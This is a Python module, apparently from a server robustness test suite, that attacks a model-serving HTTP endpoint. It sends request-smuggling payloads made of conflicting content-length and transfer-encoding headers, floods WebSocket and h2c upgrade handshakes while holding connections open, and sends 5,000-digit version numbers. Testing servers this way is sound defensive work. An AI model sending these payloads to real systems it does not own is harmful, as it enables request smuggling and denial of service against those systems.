"""Attacks over HTTP/1.1: requests with two possible ends, protocol upgrades, huge numbers."""

import base64
import contextlib
import itertools
import time

from abuse.attacks import wire
from abuse.attacks.attacker import Counts, Target

_INNER = b"GET /healthz HTTP/1.1\r\nhost: x\r\n\r\n"
_PREDICT = b"POST /v1/models/identity:predict HTTP/1.1\r\nhost: x\r\n"
_TWO_ENDS = (
    # A proxy that uses content-length forwards the inner request as part of the body.
    b"content-length: %d\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\n" % (5 + len(_INNER)),
    b"transfer-encoding: chunked\r\ncontent-length: %d\r\n\r\n0\r\n\r\n" % (5 + len(_INNER)),
    b"content-length: 0\r\ncontent-length: %d\r\n\r\n" % len(_INNER),
    b"content-length: %d, 0\r\n\r\n" % len(_INNER),
    b"transfer-encoding: xchunked\r\n\r\n0\r\n\r\n",
    b"transfer-encoding : chunked\r\n\r\n0\r\n\r\n",
    b"transfer-encoding:\x0bchunked\r\n\r\n0\r\n\r\n",
    b"content-length: +0\r\n\r\n",
    b"content-length: 0x0\r\n\r\n",
)


def _exchange(target: Target, content: bytes, seconds: float) -> bytes:
    """Send content on a new connection, and return the answer, read with a timeout."""
    received = b""
    connection = wire.connect(target.address)
    try:
        connection.sendall(content)
        connection.settimeout(seconds)
        while part := connection.recv(1 << 16):
            received += part
    except OSError:
        pass
    finally:
        wire.hang_up(connection)
    return received


def smuggling(target: Target) -> Counts:
    """Send requests whose end is ambiguous, with a second request hidden after the first."""
    tried = smuggled = 0
    for form in itertools.islice(itertools.cycle(_TWO_ENDS), 500):
        if not target.left():
            break
        tried += 1
        smuggled += b'{"status": "alive"}' in _exchange(target, _PREDICT + form + _INNER, 0.2)
    return {"requests": tried, "smuggled": smuggled}


def _upgrades(target: Target, request: bytes) -> Counts:
    tried = switched = 0
    opened = []
    while target.left() and tried < 1000:
        with contextlib.suppress(OSError):
            connection = wire.connect(target.address)
            opened.append(connection)
            connection.sendall(request)
            tried += 1
            if tried % 20 == 0:
                connection.settimeout(0.2)
                switched += connection.recv(100).startswith(b"HTTP/1.1 101")
    time.sleep(target.left())
    for connection in opened:
        wire.hang_up(connection)
    return {"requests": tried, "switched (of every twentieth)": switched}


def websocket(target: Target) -> Counts:
    """Send 1,000 WebSocket handshakes, and hold the connections open."""
    key = base64.b64encode(b"0123456789abcdef")
    return _upgrades(
        target,
        b"GET / HTTP/1.1\r\nhost: x\r\nconnection: upgrade\r\nupgrade: websocket\r\n"
        b"sec-websocket-version: 13\r\nsec-websocket-key: " + key + b"\r\n\r\n",
    )


def h2c_upgrade(target: Target) -> Counts:
    """Send 1,000 upgrade requests to HTTP/2, each announcing a body that never arrives."""
    return _upgrades(
        target,
        _PREDICT + b"connection: upgrade, http2-settings\r\nupgrade: h2c\r\n"
        b"http2-settings: AAMAAABkAAQCAAAAAAIAAAAA\r\ncontent-length: 1000\r\n\r\n",
    )


def version_digits(target: Target) -> Counts:
    """Send version numbers of 5,000 digits in every path that has one.

    Each is the caller's mistake, so the answer must not be a status 5xx.
    """
    digits = b"7" * 5000
    requests = (
        b"GET /v1/models/identity/versions/" + digits,
        b"GET /v1/models/identity/versions/" + digits + b"/metadata",
        b"POST /v1/models/identity/versions/" + digits + b":predict",
        b"GET /v2/models/identity/versions/" + digits,
        b"POST /v2/models/identity/versions/" + digits + b"/infer",
    )
    asked = faults = 0
    while target.left() and asked < 2000:
        request = requests[asked % len(requests)]
        body = b'{"instances": [[1, 2, 3]]}'
        head = b" HTTP/1.1\r\nhost: x\r\nconnection: close\r\ncontent-length: %d\r\n\r\n"
        with contextlib.suppress(OSError):
            answer = _exchange(target, request + head % len(body) + body, 2)
            faults += answer.startswith(b"HTTP/1.1 5")
        asked += 1
    return {"requests": asked, "status 5xx": faults}


ATTACKS = {
    "smuggling": smuggling,
    "websocket": websocket,
    "h2c_upgrade": h2c_upgrade,
    "version_digits": version_digits,
}
